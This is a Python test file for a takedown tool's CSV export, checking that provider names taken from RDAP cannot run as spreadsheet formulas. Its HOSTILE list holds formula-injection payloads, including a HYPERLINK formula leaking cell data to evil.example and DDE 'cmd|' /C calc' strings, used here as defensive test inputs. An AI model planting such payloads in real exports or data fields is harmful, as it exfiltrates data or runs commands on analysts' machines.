"""Every CSV takedown writes neutralises cells a spreadsheet would run as a formula.

Attack: a network's owner names itself `=HYPERLINK(…)` in RDAP; the provider's name
reaches `takedown stats --csv`, and an analyst opens the file in a spreadsheet.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from workflows.cli.stats import stats_command
from workflows.config.settings import load_settings
from workflows.core.spreadsheet import FORMULA_STARTS, csv_writer, neutralize
from workflows.store.db import database_url, make_engine, migrate
from workflows.store.models import Case

NOW = dt.datetime(2026, 12, 1, 12, 0, tzinfo=dt.UTC)
WORKFLOWS = Path(__file__).resolve().parents[1] / "workflows"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def seed(home: Path) -> None:
    engine = make_engine(database_url(None, home))
    migrate(engine)
    with Session(engine) as session, session.begin():
        for n, provider in enumerate(HOSTILE):
            opened = NOW - dt.timedelta(hours=10)
            session.add(
                Case(
                    url=f"http://site{n}.test/x",
                    host=f"site{n}.test",
                    state="removed",
                    provider=provider,
                    asn=64500 + n,
                    country="GB",
                    route="host_notice",
                    opened_at=opened,
                    first_notice_at=opened,
                    removed_at=opened + dt.timedelta(hours=n + 1),
                )
            )
    engine.dispose()


def test_a_hostile_provider_name_is_text_in_the_stats_csv(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    seed(tmp_path)
    settings = load_settings({"TAKEDOWN_HOME": str(tmp_path)})
    assert stats_command(settings, None, "csv", None, NOW) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start with "-": never a formula
    labels = {row[2] for row in rows[1:] if row[0] == "provider"}
    assert {"'" + name for name in HOSTILE} <= labels


@given(st.text(max_size=40) | st.sampled_from(HOSTILE))
def test_no_written_text_cell_can_start_a_formula(text: str) -> None:
    out = io.StringIO()
    writer = csv_writer(out, ["cell"])
    writer.writerows([{"cell": text}])
    (read,) = list(csv.reader(io.StringIO(out.getvalue())))
    cell = read[0] if read else ""
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)  # the text itself, behind an apostrophe if it must


@pytest.mark.parametrize("value", [-3, -0.5, 12, None, 2.5])
def test_numbers_are_written_as_numbers(value: float | None) -> None:
    assert neutralize(value) == value


def test_every_csv_the_product_writes_goes_through_the_spreadsheet_writer() -> None:
    writers = re.compile(r"csv\s*\.\s*(writer|DictWriter)\s*\(")
    found = [
        path.relative_to(WORKFLOWS).as_posix()
        for path in WORKFLOWS.rglob("*.py")
        if "sim" not in path.parts and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert found == ["core/spreadsheet.py"]
